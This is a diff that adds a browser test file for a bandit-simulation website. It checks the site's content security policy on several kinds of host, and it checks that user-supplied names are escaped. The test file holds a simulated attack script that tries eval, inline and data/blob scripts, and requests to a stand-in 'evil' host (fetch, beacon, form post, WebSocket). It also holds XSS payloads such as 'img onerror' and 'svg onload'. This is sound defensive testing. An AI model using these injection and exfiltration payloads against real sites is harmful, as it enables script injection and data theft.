@@ -1,0 +1,132 @@
+// The finished site on hosts that do much, and on one that does nothing; the site as it lies in the repository; its content security policy.
+import assert from 'node:assert/strict';
+import { existsSync, readFileSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
+import { extname, join, normalize } from 'node:path';
+import { test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { browser } from './browser.mjs';
+import { TYPES, serve } from './elsewhere.mjs';
+import { PATIENCE, bernoulli, ended, hash, site, url } from './site.mjs';
+
+const dist = process.env.BB_DIST ?? '';
+const www = fileURLToPath(new URL('../../www/', import.meta.url));
+const [, documented] = /^Content-Security-Policy: (.*)$/m.exec(readFileSync(new URL('../../docs/hosting.md', import.meta.url), 'utf8')) ?? [];
+
+/** A host of this folder. @param {string} folder @param {boolean} types whether it knows them @param {Record<string, string>} headers */
+const host = (folder, types, headers) => serve(async (path) => {
+  const file = normalize(path).replace(/\/$/, '/index.html');
+  return { type: types || !/wasm$/.test(file) ? TYPES[extname(file)] ?? 'text/plain' : 'application/octet-stream', body: await readFile(join(folder, file)) };
+}, headers);
+
+const hosts = {
+  'sends every header': [dist, true, {
+    'content-security-policy': documented, 'x-content-type-options': 'nosniff', 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin',
+    'cross-origin-opener-policy': 'same-origin', 'cross-origin-embedder-policy': 'require-corp', 'referrer-policy': 'no-referrer', 'cache-control': 'no-cache',
+  }],
+  'sends no header, and the wasm as anything': [dist, false, {}],
+  'has the repository’s files, not bundled': [existsSync(join(www, 'pkg')) ? www : dist, true, {}],
+};
+
+for (const [name, [folder, types, headers]] of Object.entries(hosts)) {
+  const origin = await host(folder, types, headers);
+  site(`a host that ${name}: run, views, benchmark, frame, article`, async (page) => {
+    await page.goto(`${origin}/#preset=two-arms`);
+    const { phase } = await ended(page);
+    assert.equal(phase, 'done');
+    for (const view of ['Intervals', 'Shapes', 'Coverage']) {
+      await page.getByRole('button', { name: view, exact: true }).click();
+      await page.locator(`#view-${view.toLowerCase()} canvas`).first().waitFor();
+    }
+    for (const [path, there] of [['bench.html', '#times tbody tr'], ['embed.html#preset=two-arms&repetitions=5', '.say'], ['examples/blog-post.html', 'budgeted-bandit .say']]) {
+      await page.waitForLoadState('networkidle');
+      await page.goto(`${origin}/${path}`);
+      if (path.startsWith('examples')) await page.locator('budgeted-bandit').first().scrollIntoViewIfNeeded();
+      await page.locator(there).first().waitFor();
+    }
+    await page.waitForLoadState('networkidle');
+  }, { also: [origin] });
+}
+
+test('every page states the same policy, before anything is loaded', async () => {
+  const own = documented?.replace('; frame-ancestors *', '');
+  for (const name of ['index.html', 'bench.html', 'embed.html', 'examples/blog-post.html']) {
+    const text = await readFile(join(dist, name), 'utf8');
+    const [before, policy] = text.split(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
+    assert.equal(policy, own, name);
+    assert.ok(!/<(script|link|style)/.test(before), name);
+    assert.ok(!/ on[a-z]+="| style="|<style|<script>|javascript:/.test(text), `${name} has something inline`);
+  }
+});
+
+/** Runs as a script of the site's own, as if something had got in that far. */
+const BREAK = `
+const evil = 'http://127.0.0.1:9';
+const put = (tag, attributes, text = '') => { const node = Object.assign(document.createElement(tag), { textContent: text }); for (const [key, value] of Object.entries(attributes)) node.setAttribute(key, value); document.body.append(node); return node; };
+const trial = (act) => { try { return act(); } catch (error) { (globalThis.refused ??= []).push(error.name); } };
+globalThis.violations = [];
+document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
+trial(() => eval('globalThis.broken = "eval"'));
+trial(() => new Function('globalThis.broken = "Function"')());
+trial(() => setTimeout('globalThis.broken = "setTimeout"'));
+put('script', {}, 'globalThis.broken = "inline"');
+put('script', { src: 'data:text/javascript,globalThis.broken = "data"' });
+put('script', { src: URL.createObjectURL(new Blob(['globalThis.broken = "blob"'])) });
+put('script', { src: evil + '/script.js' });
+put('p', { onclick: 'globalThis.broken = "handler"' }).click();
+put('a', { href: 'javascript:globalThis.broken = "link"' }).click();
+put('style', {}, 'body { --broken: style }');
+put('p', { style: 'color: red' });
+put('link', { rel: 'stylesheet', href: evil + '/style.css' });
+put('img', { src: evil + '/image.png' });
+put('iframe', { src: evil + '/frame.html' });
+put('object', { data: evil + '/object' });
+put('video', { src: evil + '/video' });
+put('base', { href: evil });
+put('form', { action: evil + '/form', method: 'post' }).requestSubmit();
+fetch(evil + '/fetch').catch(() => {});
+navigator.sendBeacon(evil + '/beacon');
+trial(() => new WebSocket(evil.replace('http', 'ws')));
+trial(() => new EventSource(evil + '/events'));
+// Refused before any policy is asked.
+trial(() => new Worker(evil + '/worker.js'));
+import(evil + '/module.js').catch(() => {});
+`;
+
+test('what tries to break out of a page is refused', { timeout: PATIENCE }, async () => {
+  const context = await (await browser()).newContext({ serviceWorkers: 'block' });
+  const asked = [];
+  context.on('request', (request) => asked.push(request.url()));
+  try {
+    for (const name of ['', 'bench.html', 'embed.html#preset=two-arms', 'examples/blog-post.html']) {
+      const page = await context.newPage();
+      await page.route(`${url}break.js`, (route) => route.fulfill({ contentType: 'text/javascript', body: BREAK }));
+      await page.goto(url + name);
+      await page.evaluate((src) => { document.head.append(Object.assign(document.createElement('script'), { src })); }, `${url}break.js`);
+      await page.waitForTimeout(500);
+      const { broken, violations, style, base } = await page.evaluate(() => ({ broken: globalThis.broken, violations: [...new Set(globalThis.violations)].sort(), style: getComputedStyle(document.body).getPropertyValue('--broken'), base: document.baseURI }));
+      assert.equal(broken, undefined, `${name}: ${broken}`);
+      assert.equal(style, '');
+      assert.ok(base.startsWith(url), base);
+      const expected = ['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
+      assert.deepEqual(violations, expected, name);
+      await page.close();
+    }
+    const origin = new URL(url).origin;
+    assert.deepEqual(asked.filter((address) => !/^(blob|data):/.test(address) && new URL(address).origin !== origin && !address.startsWith('http://127.0.0.1:9/')), []);
+  } finally {
+    await context.close();
+  }
+});
+
+site('markup in a link stays text', async (page) => {
+  const name = '<img src=x onerror="globalThis.broken=1"><script>globalThis.broken=2</script>\u202e';
+  const specification = { version: 1, environment: { arms: [{ ...bernoulli(0.6, 0.5), name }, { ...bernoulli(0.4, 0.2), name: '"><svg onload=globalThis.broken=3>' }] }, budget: { absolute: 300 }, policies: [{ id: 'omega-ucb', rho: 0.25 }], repetitions: 5, seed: 3 };
+  await page.goto(url + hash(specification));
+  await ended(page);
+  for (const view of ['Intervals', 'Regret']) {
+    await page.getByRole('button', { name: view, exact: true }).click();
+    await page.waitForTimeout(300);
+    assert.equal(await page.evaluate(() => globalThis.broken ?? document.querySelectorAll('main img, #panel img').length), 0);
+  }
+});
